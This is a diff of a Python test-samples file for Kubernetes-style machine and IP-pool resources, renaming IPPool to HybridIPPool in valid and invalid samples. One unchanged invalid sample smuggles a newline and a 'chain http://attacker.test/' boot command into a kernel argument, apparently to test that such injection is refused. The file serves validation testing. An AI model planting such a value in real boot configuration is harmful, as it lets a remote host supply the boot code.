@@ -39,7 +39,7 @@ def _vm_machine_spec() -> Obj:
                     "name": "eth0",
                     "bridge": "br0",
                     "default": True,
-                    "ipPoolRefs": [{"apiGroup": kinds.IPAM_GROUP, "kind": "IPPool", "name": "nodes"}],
+                    "ipPoolRefs": [{"apiGroup": kinds.IPAM_GROUP, "kind": "HybridIPPool", "name": "nodes"}],
                 }
             ]
         },
@@ -97,7 +97,7 @@ def valid_samples() -> list[Obj]:
         _object(kinds.HYBRID_MACHINE, "sample", _vm_machine_spec()),
         _object(kinds.HYBRID_MACHINE_TEMPLATE, "sample", {"template": {"spec": _baremetal_machine_spec()}}),
         _object(
-            kinds.IPPOOL,
+            kinds.HYBRID_IPPOOL,
             "sample",
             {
                 "addresses": ["10.0.0.0/28", "10.0.1.10-10.0.1.20", "10.0.2.5"],
@@ -225,9 +225,9 @@ def invalid_samples() -> list[Invalid]:
     """Objects that break a rule of the CRDs, each with a fragment of the message it is refused with."""
     both = _sample(kinds.HYBRID_MACHINE)
     both["spec"]["baremetal"] = _baremetal_machine_spec()["baremetal"]
-    bad_cidr = _sample(kinds.IPPOOL)
+    bad_cidr = _sample(kinds.HYBRID_IPPOOL)
     bad_cidr["spec"]["addresses"].append("10.0.0.0/33")
-    bad_range = _sample(kinds.IPPOOL)
+    bad_range = _sample(kinds.HYBRID_IPPOOL)
     bad_range["spec"]["addresses"] = ["10.0.0.1-2001:db8::1"]
     missing = _sample(kinds.LIBVIRT_VM)
     del missing["spec"]["vcpus"]
@@ -262,7 +262,7 @@ def invalid_samples() -> list[Invalid]:
     injected["spec"]["os"] = {**installer, "kernelArgs": ["console=ttyS0\nchain http://attacker.test/"]}
     return [
         Invalid("vm and baremetal both set", both, "exactly one of spec.vm and spec.baremetal must be set"),
-        Invalid("bad CIDR in an IPPool", bad_cidr, "must be an IP address, a CIDR"),
+        Invalid("bad CIDR in a HybridIPPool", bad_cidr, "must be an IP address, a CIDR"),
         Invalid("range mixing families", bad_range, "must be an IP address, a CIDR"),
         Invalid("missing required field", missing, "spec.vcpus: Required value"),
         Invalid("hypervisorName changed", moved, "hypervisorName is immutable once set", before=placed),
